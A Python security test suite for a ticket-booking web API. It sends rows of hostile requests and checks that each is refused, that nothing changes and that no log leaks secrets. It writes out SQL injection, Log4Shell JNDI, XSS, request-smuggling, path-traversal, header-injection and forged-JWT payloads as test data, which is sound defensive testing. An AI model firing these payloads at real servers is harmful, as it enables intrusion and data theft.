#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""What attackers and broken clients send, line by line, through the web server.

A row is an attack; the answers are those of the closed list of problems. After
all of them nothing may have moved, nothing may have failed inside, and no log
may hold a secret that was sent.

Lines without a row here. Tried elsewhere: A22, A25, A28, A34-A36 (tests/store),
A33 (test_api_payment), A43 (test_idem, test_idempotency), A27 by address
(test_nginx), slow clients of A4 and A5 (test_slow), A54, A55 (test_exposure,
test_quickstart). Nothing to try yet: A21 (no charges), A26 (no cool-down),
A39-A41 (no queue), A44, A45 (no webhooks), A46 (no URLs are taken), A47's log
intake, A50 (no feed). Cookies, and forms that others send (A48): test_m_session.
"""
import gzip
import os
import socket
import ssl
import sys
import uuid

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
import api  # noqa: E402
import attack  # noqa: E402
import stage  # noqa: E402
import tap  # noqa: E402
import wire  # noqa: E402
from api import Client, ENV, expect, expect_problem  # noqa: E402
from attack import Ask, forged  # noqa: E402
from nginx import Nginx  # noqa: E402

API = "/api/v1"
SEAT = stage.make_performance(50)
CLOSED = stage.make_performance(50)
api.sql("UPDATE performances SET sales_close_at = now() - interval '1 s'"
        f" WHERE id = {CLOSED}")
SHOW = api.sql(f"SELECT show_id FROM performances WHERE id = {SEAT}")
HOLDS = f"{API}/performances/{SEAT}/holds"
LOGIN, SIGNUP = f"{API}/auth/login", f"{API}/auth/signup"
PAY = f"{API}/payments"
JSON = "application/json"
BEHIND_A_PROXY = "set_real_ip_from 127.0.0.1; real_ip_header X-Forwarded-For;"

victim, thief = api.buyers(2)
CANARY = "canary-" + uuid.uuid4().hex
PASSWORD = "pw-" + CANARY
KEY = "key-" + CANARY
NAME = "u" + uuid.uuid4().hex[:12]


def prepare():
    """A user who logs in with the canary password; what the victim has."""
    expect(Client().post(SIGNUP, user()), 201)
    tokens = expect(Client().post(LOGIN, {
        "login_id": NAME, "password": PASSWORD}), 200).json()
    admin = Client().login(ENV["ADMIN_LOGIN"], ENV["ADMIN_PASSWORD"])
    for move, seat in (("block", 3), ("disable", 4)):
        expect(admin.post(f"{API}/admin/performances/{SEAT}/seats/{move}",
                          {"seat_ids": [seat], "reason": "ours"}), 200)
    held = expect(victim.hold(SEAT, [1]), 201).json()["hold_token"]
    bought = expect(victim.hold(SEAT, [2]), 201).json()["hold_token"]
    paid = expect(victim.pay(bought, KEY), 201).json()
    tap.wait_for(lambda: api.sql(
        f"SELECT count(*) FROM holds WHERE performance_id = {SEAT}") == "2",
        "the journal to have both holds")
    return tokens, held, paid["reservation"]["number"], paid["payment"]["id"]


def user(**changes):
    return {"login_id": NAME, "password": PASSWORD, "name": "A name",
            "email": "a@example.org", **changes}


MARKS = attack.log_marks()
TOKENS, HOLD, NUMBER, PAYMENT = prepare()
NO_HOLD = HOLD[:-8] + "AAAAAAAA"
BEFORE = attack.facts()
MAP = Client().get(f"{API}/performances/{SEAT}/seats").json()["statuses"]
ERRORS = attack.server_errors()


# ---- ways to write an ask ----

def get(path, status, slug, **more):
    return Ask(status, slug, "GET", API + path, **more)


def hold(body, status=422, slug="invalid-field", **more):
    return Ask(status, slug, "POST", HOLDS, body, who=thief, **more)


def pay(body, status, slug, key=None, **more):
    key = uuid.uuid4().hex if key is None else key
    return Ask(status, slug, "POST", PAY, body, who=thief,
               headers={"Idempotency-Key": key}, **more)


def login(body, status, slug, **more):
    return Ask(status, slug, "POST", LOGIN, body, **more)


def token(text, status=401, slug="invalid-token", path=f"{API}/me"):
    return Ask(status, slug, "GET", path,
               headers={"Authorization": "Bearer " + text})


def lines(*text, body=b""):
    """A raw request that asks for its connection to be closed."""
    head = [t if isinstance(t, bytes) else t.encode() for t in text]
    return b"\r\n".join(head + [b"Host: x", b"Connection: close", b"", body])


def raw(status, slug, *text, body=b"", **more):
    return Ask(status, slug, raw=lines(*text, body=body), **more)


def seats_json(text):
    return b'{"seat_ids":' + text + b"}"


# ---- what is checked of good answers ----

def has(name):
    def check(answer):
        assert answer.headers[name], answer.headers
    return check


def has_no(*names):
    def check(answer):
        for name in names:
            assert answer.headers[name] is None, answer.headers
    return check


def is_empty(answer):
    assert answer.json()["items"] == [], answer


def is_private(answer):
    assert answer.headers["Cache-Control"] == "no-store", answer.headers


DEEP = b"[" * 10_000 + b"]" * 10_000
MANY = b"{" + b",".join(b'"k%d":1' % i for i in range(5000)) + b"}"
SPECIAL = ["' OR 1=1 --", "\"; DROP TABLE users; --", "$1", "%s%n%x",
           "{{7*7}}", "bo:{p1.1}:seats", "*", "return redis.call('KEYS')",
           "\\", "${jndi:ldap://192.0.2.1}", "<script>alert(1)</script>"]

ROWS = [
    ("A1 more than 64 KiB, or more than the route takes", [
        login(b" " * 65537, 413, "too-large"),
        hold(b" " * 5000, 413, "too-large"),
        raw(413, "too-large", f"POST {LOGIN} HTTP/1.1",
            "Content-Length: 99999999999"),
    ]),
    ("A2 a body without a length", [
        raw(415, "unsupported-media-type", f"POST {LOGIN} HTTP/1.1"),
        raw(400, "malformed-json", f"POST {LOGIN} HTTP/1.1",
            f"Content-Type: {JSON}"),
    ]),
    ("A3 a length that lies, is negative, doubled or no number", [
        raw(400, "bad-request", f"POST {LOGIN} HTTP/1.1",
            f"Content-Length: {n}", body=b"{}")
        for n in ("-1", "2x", "+2", "0x2", "2\r\nContent-Length: 3",
                  "99999999999999999999999")
    ] + [raw(400, "malformed-json", f"POST {LOGIN} HTTP/1.1",
             f"Content-Type: {JSON}", "Content-Length: 1", body=b"{}")]),
    ("A6 deep nesting, many names, huge numbers, doubled names", [
        login(DEEP, 400, "malformed-json"),
        hold(seats_json(b"[" * 17 + b"]" * 17), 400, "malformed-json"),
        login(MANY, 400, "unknown-field"),
        login(b'{"login_id":"a","login_id":"b","password":"x"}', 400,
              "malformed-json"),
        hold(seats_json(b"[1],") + b'"seat_ids":[2]}', 400, "malformed-json"),
        hold(seats_json(b"[1" + b"0" * 3000 + b"]"), 400, "malformed-json"),
        hold(seats_json(b"[1e400]"), 400, "malformed-json"),
        hold(seats_json(b"[-0]")),
    ] + [login(text, 400, "malformed-json") for text in (
        b"", b"{", b"{}{}", b"{]", b"nul", b"NaN", b'{"a":Infinity}',
        b"{'a':1}", b'{"a":1,}', b'{"a":01}', b'{"a":.5}', b'{"a":0x10}',
        b"/* */{}", b'{"a":"\t"}', b'"' + b"a" * 60000)]),
    ("A7 a packed body", [
        Ask(415, "unsupported-media-type", "POST", LOGIN,
            gzip.compress(b'{"login_id":"a","password":"b"}'),
            headers={"Content-Encoding": kind})
        for kind in ("gzip", "br", "deflate", "gzip, gzip", "x")]),
    ("A8 another content type", [
        Ask(415, "unsupported-media-type", "POST", LOGIN, b"<a/>",
            headers={"Content-Type": kind})
        for kind in ("text/xml", "application/x-www-form-urlencoded", "",
                     "multipart/form-data; boundary=x", "application/jsonx",
                     "text/plain; application/json", "application/json5")]),
    ("A9 text that is no UTF-8, NUL, lone surrogates, BOM, controls", [
        login(b'{"login_id":"%s","password":"x"}' % bad, 400, "bad-utf8")
        for bad in (b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80",
                    b"\xe2\x82", b"\x80", b"\\ud800", b"\\udc00\\ud800",
                    b"a\\u0000b", b"a\0b")
    ] + [
        login(b"{}\0", 400, "bad-utf8"),
        login(b'\xef\xbb\xbf{"login_id":"a","password":"x"}', 400, "bad-utf8"),
    ] + [Ask(422, "invalid-field", "POST", SIGNUP, user(name=name),
             field="name")
         for name in ("a\rb", "a\x1b[31m", "a\u202eb", "a\u2066b",
                      "\x7f", "\u0085", "   ")]),
    ("A10 a login id that looks like another", [
        Ask(409, "login-taken", "POST", SIGNUP, user(login_id=alike))
        for alike in (NAME.upper(), "".join(
            chr(ord(c) + 0xfee0) for c in NAME), NAME.replace("u", "\uff35"))
    ]),
    ("A11 SQL, Lua and formats in every text", [
        login({"login_id": text, "password": PASSWORD}, 401,
              "bad-credentials") for text in SPECIAL
    ] + [Ask(422, "invalid-field", "POST", SIGNUP, user(login_id=text + "!"),
             field="login_id") for text in SPECIAL if len(text) > 2
    ] + [
        Ask(422, "invalid-field", "POST", SIGNUP, user(email=text),
            field="email") for text in SPECIAL
    ] + [pay({"hold_token": text, "method": "wallet"}, 404, "not-found")
         for text in SPECIAL
    ] + [pay({"hold_token": HOLD, "method": "x';--"}, 422, "invalid-field",
             field="method"),
         get("/shows?q=%27%20OR%201%3D1%20--", 200, None, check=is_empty),
         get("/shows?q=%25%5F%5C", 200, None, check=is_empty)]),
    ("A12 ids that are none", [
        get(f"/performances/{id}{part}", 404, "not-found", who=thief)
        for id in ("0", "-1", "+1", "01", "1.0", "1e3", "0x1", "abc", "%7B1%7D",
                   "1%20", "9007199254740992", "9223372036854775808",
                   "99999999999999999999", "*", "1,2", "%E0%BC%A1")
        for part in ("", "/seats", "/holds", "/layout")
    ] + [get("/performances/1%0D%0ADEL%20x/seats", 400, "bad-request"),
         get(f"/payments/{PAYMENT}.0", 404, "not-found", who=thief),
         get("/holds/" + "a" * 5000, 404, "not-found", who=thief)]),
    ("A13 a user agent of controls, and one of 7 KB", [
        Ask(200, None, path=f"{API}/performances/{SEAT}", headers={"User-Agent": agent})
        for agent in ('"}\t{"a":1', "\x1b[2J", "a" * 7000)]),
    ("A14 header injection by what is reflected", [
        Ask(200, None, path=f"{API}/performances/{SEAT}", headers={name: value},
            check=has_no("X-Evil"))
        for name in ("X-Request-Id", "Accept-Language", "If-None-Match",
                     "Origin")
        for value in ("a%0d%0aX-Evil: 1", "a\tX-Evil: 1", "a\x0bX-Evil",
                      "\xe5\x98\x8d\xe5\x98\x8aX-Evil: 1")
    ] + [raw(400, "bad-request", "GET / HTTP/1.1", b"X-Request-Id: a\0b")]),
    ("A15 a Proxy header, a forged address, underscores", [
        Ask(200, None, path=f"{API}/performances/{SEAT}", headers={name: value})
        for name, value in (
            ("Proxy", "http://192.0.2.1"), ("X_Forwarded_For", "192.0.2.1"),
            ("Remote_Addr", "192.0.2.1"), ("Request_Method", "DELETE"))
    ] + [Ask(401, "unauthenticated", path=f"{API}/me", headers={name: value})
         for name, value in (
             ("X-Remote-User", "1"), ("X-Forwarded-User", "admin"),
             ("X-User-Id", "1"), ("Http_Authorization", thief.token))]),
    ("A16 smuggling, HTTP/0.9, spaces and lines out of place", [
        raw(400, "bad-request", f"POST {LOGIN} HTTP/1.1", *two, body=b"0\r\n\r\n")
        for two in (("Transfer-Encoding: chunked", "Content-Length: 4"),
                    ("Content-Length: 4", "Transfer-Encoding: chunked"))
    ] + [raw(status, slug, f"POST {LOGIN} HTTP/1.1",
             f"Content-Type: {JSON}", "Transfer-Encoding: chunked", body=body)
         for status, slug, body in (
             (400, "bad-request", b"zz\r\n{}\r\n0\r\n\r\n"),
             (400, "bad-request", b"-2\r\n{}\r\n0\r\n\r\n"),
             (400, "bad-request", b"2\r\n{}x0\r\n\r\n"),
             (413, "too-large", b"ffffffff\r\n{}"))
    ] + [raw(400, "bad-request", f"POST {LOGIN} HTTP/1.1",
             f"Transfer-Encoding: {kind}", body=b"0\r\n\r\n")
         for kind in ("gzip, chunked", "xchunked", "identity")
    ] + [raw(400, "bad-request", *head) for head in (
        ["GET / HTTP/1.1", b"A b: c"], ["GET / HTTP/1.1", b"Host : y"],
        ["GET / HTTP/1.1", "Host: y"], ["GET  / HTTP/1.1 x"],
        ["GET / HTTP/1.1", b"a\0: b"], ["G\0T / HTTP/1.1"],
        ["GET http:// HTTP/1.1"], ["\x16\x03\x01 / HTTP/1.1"])]),
    ("A17 other ways to write a path", [
        Ask(status, slug, "GET", path) for status, slug, path in (
            (400, "bad-request", f"{API}/shows%2F1"),
            (400, "bad-request", f"{API}/shows%5C1"),
            (400, "bad-request", f"{API}/shows;a=b"),
            (400, "bad-request", f"{API}//shows"),
            (400, "bad-request", f"{API}/./shows"),
            (400, "bad-request", f"{API}/x/../shows"),
            (400, "bad-request", f"{API}/%2e%2e/v1/shows"),
            (400, "bad-request", f"{API}/shows%00"),
            (400, "bad-request", f"{API}/shows%zz"),
            (400, "bad-request", f"{API}/shows%C0%AF"),
            (404, "not-found", f"{API}/%252e%252e/shows"),
            (404, "not-found", f"{API}/shows%252F1"),
            (404, "not-found", f"{API}/SHOWS"),
            (404, "not-found", f"{API}/shows/1/"),
            (400, "bad-request", "/%2e%2e%2fetc/passwd%20"),
            (400, "bad-request", "/../../etc/passwd"),
            (400, "bad-request", "/..%2f..%2f..%2fetc/passwd"),
            (404, "not-found", "/.git/config"),
            (404, "not-found", "/..%5c..%5cetc"))]),
    ("A18 methods that do not belong", [
        Ask(405, "method-not-allowed", method, f"{API}/shows",
            check=has("Allow"))
        for method in ("POST", "PUT", "DELETE", "PATCH", "OPTIONS", "BREW")
    ] + [
        Ask(405, "method-not-allowed", "TRACE", f"{API}/shows"),
        Ask(404, "not-found", "GET", f"{API}/holds/{NO_HOLD}", who=thief,
            headers={"X-HTTP-Method-Override": "DELETE"}),
        Ask(200, None, "GET", f"{API}/holds/{HOLD}", who=victim,
            headers={"X-HTTP-Method-Override": "DELETE",
                     "X-HTTP-Method": "DELETE", "X-Method-Override": "DELETE"}),
        Ask(400, "unknown-field", "GET", f"{API}/holds/{HOLD}?_method=DELETE",
            who=victim),
    ] + [Ask(status, None, "HEAD", API + path, who=who)
         for status, path, who in (
             (200, "/shows", None), (200, f"/shows/{SHOW}", None),
             (200, f"/shows/{SHOW}/dates", None),
             (200, f"/shows/{SHOW}/performances", None),
             (200, f"/performances/{SEAT}", None),
             (200, f"/performances/{SEAT}/layout", None),
             (200, f"/performances/{SEAT}/sections", None),
             (200, f"/performances/{SEAT}/seats", None),
             (200, f"/performances/{SEAT}/holds", victim),
             (200, f"/holds/{HOLD}", victim),
             (200, f"/payments/{PAYMENT}", victim),
             (200, "/reservations", victim),
             (200, f"/reservations/{NUMBER}", victim),
             (200, "/me", victim), (200, "/wallet", victim),
             (404, f"/holds/{HOLD}", thief), (401, "/me", None))]),
    ("A19 a price, a user or a state from the client", [
        hold({"seat_ids": [5], name: value}, 400, "unknown-field", field=name)
        for name, value in (("amount", 1), ("price", 0), ("currency", "XXX"),
                            ("user_id", 1), ("expires_in", 10 ** 9),
                            ("status", "paid"), ("__proto__", {}))
    ] + [pay({"hold_token": HOLD, "method": "wallet", name: 1}, 400,
             "unknown-field", field=name)
         for name in ("amount", "currency", "user", "payment_id")]),
    ("A20 numbers that are none, and of every wrong type", [
        hold(seats_json(b"[%s]" % n), field="seat_ids")
        for n in (b"0", b"-1", b"9223372036854775807", b"9007199254740992",
                  b"9223372036854775808", b"1e3", b"1.5", b"1.0", b'"1"',
                  b"null", b"true", b"[]", b"{}", b"51", b"-9223372036854775809")
    ] + [hold(seats_json(v), field="seat_ids")
         for v in (b"1", b'"1"', b"null", b"{}", b"true", b'{"0":1}')
    ] + [hold(v, 400, "bad-request") for v in (b"[]", b"1", b'"a"', b"null")
    ] + [pay({"hold_token": v, "method": "wallet"}, 422, "invalid-field",
             field="hold_token") for v in (1, 1.5, None, True, [], {}, "")
    ] + [pay({"hold_token": HOLD, "method": v}, 422, "invalid-field",
             field="method") for v in (1, None, [], {}, "", "cash", "WALLET")
    ] + [login({"login_id": v, "password": "x"}, 422, "invalid-field",
               field="login_id") for v in (1, None, [], {}, True, "")]),
    ("A23 a seat that the hall has not or the house keeps, nothing on sale", [
        hold({"seat_ids": [51]}, field="seat_ids"),
        hold({"seat_ids": [5, 100]}, field="seat_ids"),
        Ask(404, "not-found", "POST", f"{API}/performances/999999999/holds",
            {"seat_ids": [1]}, who=thief),
        Ask(409, "sale-closed", "POST", f"{API}/performances/{CLOSED}/holds",
            {"seat_ids": [1]}, who=thief),
        hold({"seat_ids": [2]}, 409, "seat-taken"),
        hold({"seat_ids": [3]}, 409, "seat-taken"),
        hold({"seat_ids": [4]}, 409, "seat-taken"),
        hold({"seat_ids": [5, 1]}, 409, "seat-taken"),
    ]),
    ("A24 the same seat twice, none, twenty-one", [
        hold({"seat_ids": ids}, field="seat_ids")
        for ids in ([5, 5], [], list(range(5, 26)), [5, 6, 5])
    ] + [hold({"seat_ids": list(range(5, 14))}, 422, "seat-limit"),
         hold({}, field="seat_ids")]),
    ("A29 what belongs to somebody else is like what is not there",
     lambda: [twin for mine, none in (
         (f"/holds/{HOLD}", f"/holds/{NO_HOLD}"),
         (f"/payments/{PAYMENT}", "/payments/999999999"),
         (f"/reservations/{NUMBER}", "/reservations/0000-0000-0000-0000"))
         for twin in twins("GET", mine, none)]
     + twins("DELETE", f"/holds/{HOLD}", f"/holds/{NO_HOLD}")
     + twins("POST", f"/holds/{HOLD}/extend", f"/holds/{NO_HOLD}/extend", {})
     + twins("PATCH", f"/holds/{HOLD}", f"/holds/{NO_HOLD}",
             {"seat_ids": [5]})
     + twins("POST", f"/reservations/{NUMBER}/cancel",
             "/reservations/0000-0000-0000-0000/cancel", {},
             {"Idempotency-Key": uuid.uuid4().hex})
     + [pay({"hold_token": token, "method": "wallet"}, 404, "not-found",
            check=same_as_first("pay")) for token in (HOLD, NO_HOLD)]
     + [get("/reservations", 200, None, who=thief, check=is_empty),
        get(f"/performances/{SEAT}/holds", 200, None, who=thief,
            check=is_empty)]),
    ("A30 guessed reservation numbers", [
        get(f"/reservations/{n}", 404, "not-found", who=thief)
        for n in ("1", NUMBER.lower(), NUMBER.replace("-", ""), NUMBER[:-1],
                  "%25", "____-____-____-____", NUMBER + "%20", "*")]),
    ("A31 a role that was edited, or asked for", [
        token(attack.forged(thief.user, claims={"role": "ADMIN"},
                            secret=b"x" * 32)),
        token(attack.forged(thief.user, claims={"role": "ROOT"})),
        Ask(400, "unknown-field", "POST", SIGNUP, user(role="ADMIN"),
            field="role"),
        Ask(400, "unknown-field", "POST", SIGNUP, user(id=1), field="id"),
        Ask(400, "unknown-field", "POST", SIGNUP, user(balance=10 ** 9)),
        Ask(403, "forbidden", "GET", f"{API}/admin/audit-log", who=thief),
        Ask(403, "forbidden", "POST",
            f"{API}/admin/performances/{SEAT}/seats/block",
            {"seat_ids": [5], "reason": "mine"}, who=thief),
        Ask(401, "unauthenticated", "GET", f"{API}/admin/audit-log"),
    ]),
    ("A32 forged tokens", lambda: [
        token(forged(thief.user), 200, None)
    ] + [token(forged(thief.user, header=h)) for h in (
        {"alg": "none"}, {"alg": "None"}, {"alg": "HS384"}, {"alg": "HS512"},
        {"alg": "RS256"}, {"alg": ""}, {"alg": None}, {"typ": "at"},
        {"typ": None}, {"kid": "../../dev/null"}, {"kid": "' OR 1=1"},
        {"kid": ""}, {"kid": 1}, {"kid": "a" * 300}, {"crit": ["exp"]})
    ] + [token(forged(thief.user, claims=c)) for c in (
        {"aud": "other"}, {"aud": ["boxoffice"]}, {"iss": "other"},
        {"sub": "abc"}, {"sub": thief.user}, {"sub": "0"}, {"sub": "-1"},
        {"exp": 1}, {"exp": 2 ** 40}, {"exp": "9999999999"}, {"exp": 1e300},
        {"nbf": 2 ** 40}, {"iat": 2 ** 40}, {"role": "user"}, {"role": None})
    ] + [token(forged(thief.user, without=[name])) for name in (
        "alg", "kid", "typ", "exp", "iat", "nbf", "iss", "aud", "sub", "role")
    ] + [token(forged(thief.user, header={"kid": k}, secret=b""))
         for k in ("/dev/null", "")
    ] + [token(text) for text in (
        forged(thief.user)[:-1], forged(thief.user) + "A",
        forged(thief.user).rsplit(".", 1)[0] + ".",
        forged(thief.user).rsplit(".", 1)[0], forged(thief.user) + ".x",
        forged(thief.user).replace(".", "=.", 1), "a.b.c", "...", "x",
        "!" * 50, "a" * 5000, TOKENS["refresh_token"])
    ] + [Ask(401, "unauthenticated", path=f"{API}/me",
             headers={"Authorization": text}) for text in (
                 "", "Bearer", "Basic YTpi", thief.token,
                 "Token " + thief.token)
    ] + [token(forged(thief.user, header=h), 200, None) for h in (
        # Never looked at: who would fetch a key from there?
        {"jku": "https://192.0.2.1/k"}, {"x5u": "https://192.0.2.1/c"})]),
    ("A36 a wrong password and an unknown user are answered alike",
     lambda: [login({"login_id": who, "password": "wrong" + CANARY}, 401,
                    "bad-credentials", check=same_as_first("login"))
              for who in (NAME, "nobody-" + NAME, "!", "a" * 64)]),
    ("A38 a password that is empty, huge, or has a control", [
        # A NUL is refused before there are fields: see A9.
        login({"login_id": NAME, "password": p}, 422, "invalid-field",
              field="password") for p in ("", "a" * 257, "a" * 60_000, "a\nb")
    ] + [Ask(422, "invalid-field", "POST", SIGNUP, user(password=p),
             field="password") for p in ("", "a" * 7, "a" * 257, "a\nbcdefgh")
    ] + [login({"login_id": NAME, "password": "a" * 2 ** 20}, 413,
               "too-large")]),
    ("A42 an idempotency key that is missing, malformed, too long, or "
     "another's", [
        Ask(400, "idempotency-key-missing", "POST", PAY,
            {"hold_token": HOLD, "method": "wallet"}, who=thief,
            headers=headers) for headers in ({}, {"Idempotency-Key": ""})
    ] + [pay({"hold_token": HOLD, "method": "wallet"}, 400,
             "idempotency-key-malformed", key)
         for key in ("a" * 256, "a b", 'a"b', '""', "a\tb", "\xe9", "a\\")
    ] + [pay({"hold_token": HOLD, "method": "wallet"}, 404, "not-found", KEY,
             check=has_no("Idempotency-Replayed")),
         hold({"seat_ids": [1]}, 400, "idempotency-key-malformed",
              headers={"Idempotency-Key": "a" * 256})]),
    ("A49 an origin that is foreign", [
        Ask(200, None, path=f"{API}/{path}", who=who,
            headers={"Origin": origin}, check=has_no(*names))
        for origin in ("null", "https://evil.example")
        for path, who, names in (
            # Anybody's page may read what anybody may: never as its reader.
            ("shows", None, ["Access-Control-Allow-Credentials"]),
            ("me", victim, ["Access-Control-Allow-Origin",
                            "Access-Control-Allow-Credentials"]))]),
    ("A51 personal answers are not for caches", [
        get(path, 200, None, who=victim, check=is_private)
        for path in ("/me", "/wallet", "/reservations", f"/holds/{HOLD}",
                     f"/payments/{PAYMENT}", f"/reservations/{NUMBER}")
    ] + [get("/me", 401, "unauthenticated", check=is_private)]),
    ("A52 limits and cursors out of range, unknown parameters", [
        get(f"/shows?limit={n}", 422, "invalid-field", field="limit")
        for n in ("0", "-1", "101", "1000000000", "9" * 30, "1.5", "abc", "")
    ] + [get(f"/shows?cursor={c}", 422, "invalid-field", field="cursor")
         for c in ("x", "!!", "a" * 65, "djE6MQ", "djI6MTox", "djE6MTphYmM",
                   "djE6OTk5OTk5OTk5OTk5OTk5OTk5OTk6MQ")
    ] + [get("/shows?limit=1&limit=2", 422, "invalid-field"),
         get("/shows?q=%ff", 400, "bad-request"),
         get("/shows?q=%", 400, "bad-request"),
         get("/shows?q=" + "a" * 101, 422, "invalid-field", field="q"),
         get("/shows?q=a%00b", 400, "bad-request"),
         get("/shows?q=a%0Ab", 422, "invalid-field", field="q"),
         get("/shows?kind=x%27", 422, "invalid-field", field="kind"),
         get("/shows?sort=id%3BDROP", 400, "unknown-field"),
         get("/shows?page=1000000000", 400, "unknown-field"),
         get("/me?a=b", 400, "unknown-field", who=victim),
         get("/wallet?user=1", 400, "unknown-field", who=victim),
         get(f"/shows/{SHOW}/performances?date=2026-02-30", 422,
             "invalid-field", field="date"),
         get(f"/shows/{SHOW}/performances?cursor=djE6LTE6MQ", 422,
             "invalid-field", field="cursor"),
         get(f"/performances/{SEAT}/seats?since=x%0A", 200, None)]),
    ("other: Range and Expect are understood or ignored", [
        Ask(200, None, path=f"{API}/performances/{SEAT}/seats",
            headers={"Range": r}) for r in (
                "bytes=0-1", "bytes=0-,0-,0-,0-", "bytes=-9223372036854775808")
    ] + [raw(413, "too-large", f"POST {LOGIN} HTTP/1.1",
             "Expect: 100-continue", "Content-Length: 65537"),
         raw(431, "headers-too-large", f"GET {API}/shows HTTP/1.1",
             "X-A: " + "a" * 9000),
         raw(414, "uri-too-long", f"GET /{'a' * 9000} HTTP/1.1")]),
]


# ---- answers that must not differ ----

FIRST = {}


def same_as_first(name):
    """The body, but for the request's id, is that of the first one."""
    def check(answer):
        shown = {k: v for k, v in answer.json().items() if k != "request_id"}
        assert FIRST.setdefault(name, shown) == shown, (FIRST[name], shown)
    return check


def twins(method, mine, none, body=None, headers=None):
    """The same of somebody else's and of what does not exist."""
    return [Ask(404, "not-found", method, API + path, body, who=thief,
                headers=headers, check=same_as_first(method + mine)) for path in (mine, none)]


# ---- what is no single answer ----

def A16_nothing_behind_a_refused_request_is_answered():
    second = b"GET /api/v1/shows HTTP/1.1\r\nHost: x\r\n\r\n"
    for first in (
            f"POST {LOGIN} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            f"POST {LOGIN} HTTP/1.1\r\nHost: x\r\n"
            "Transfer-Encoding: chunked\r\n\r\nzz\r\n",
            "GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n"):
        text = wire.raw_all(first.encode() + second)
        assert text.count(b"HTTP/1.1 ") == 1, text
        assert text.startswith(b"HTTP/1.1 400 "), text


def A4_half_a_request_is_nobodys_trouble():
    for half in (b"GET", b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\n"
                 b"Content-Length: 10\r\n\r\n{"):
        with wire.connect() as connection:
            connection.sendall(half)
    expect(Client().get(f"{API}/performances/{SEAT}"), 200)


def A53_TLS_below_1_2_is_refused():
    for version in (ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1):
        old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
        # Debian's OpenSSL would not even offer it otherwise.
        old.set_ciphers("ALL:@SECLEVEL=0")
        old.minimum_version = old.maximum_version = version
        with socket.create_connection((wire.URL.hostname, wire.URL.port)) as s:
            try:
                old.wrap_socket(s, server_hostname=wire.URL.hostname)
            except ssl.SSLError as refused:
                assert "PROTOCOL_VERSION" in str(refused).upper(), refused
                continue
        raise AssertionError(f"{version} was accepted")


def A37_guessing_gets_slower_and_locks_nobody_out():
    """By login id and network: the victim of it is user NAME, who comes from
    elsewhere, which only a web server believed by its address can show."""
    def guess(client, password, address):
        return client.ask("POST", LOGIN, {
            "login_id": NAME, "password": password},
            {"X-Forwarded-For": address})

    with Nginx(BEHIND_A_PROXY) as nginx:
        got = [guess(Client(nginx.url), "wrong" + CANARY,
                     "192.0.2.1").status for _ in range(10)]
        assert got == [401] * 10, got
        early = expect_problem(
            guess(Client(nginx.url), PASSWORD, "192.0.2.1"),
            429, "rate-limited")
        assert int(early.headers["Retry-After"]) >= 1, early.headers
        expect(guess(Client(nginx.url), PASSWORD, "192.0.2.2"), 200)


# ---- after all of it ----

def nothing_moved():
    assert attack.facts() == BEFORE, (BEFORE, attack.facts())
    now = Client().get(
        api.unkept(f"{API}/performances/{SEAT}/seats")).json()["statuses"]
    assert now == MAP, (MAP, now)
    expect(victim.get(f"{API}/holds/{HOLD}"), 200)


def no_answer_was_a_server_error():
    assert attack.server_errors() == ERRORS
    found = attack.access_log_errors(MARKS[attack.log_file("access.log")])
    assert not found, found[:5]


def no_log_holds_a_secret():
    """The logs are read as they are; that they are read is shown by an id."""
    seen = "seen-" + CANARY
    Client().get(f"{API}/performances/{SEAT}",
                 headers={"X-Request-Id": seen})
    secrets = {"password": PASSWORD, "wrong password": "wrong" + CANARY,
               "refresh token": TOKENS["refresh_token"], "key": KEY,
               "access token": TOKENS["access_token"].rsplit(".", 1)[1],
               "buyer's token": thief.token.rsplit(".", 1)[1],
               "password hash": "$argon2", "hold token": HOLD}
    tap.wait_for(lambda: seen.encode() in attack.written_since(MARKS)[
        attack.log_file("fcgi-api.log")], "the last request to be logged")
    leaks = [(what, path)
             for path, text in attack.written_since(MARKS).items()
             for what, secret in secrets.items() if secret.encode() in text]
    assert not leaks, leaks


tap.main([attack.as_test(*row) for row in ROWS] + [
    A16_nothing_behind_a_refused_request_is_answered,
    A4_half_a_request_is_nobodys_trouble,
    A53_TLS_below_1_2_is_refused,
    A37_guessing_gets_slower_and_locks_nobody_out,
    nothing_moved,
    no_answer_was_a_server_error,
    no_log_holds_a_secret,
])
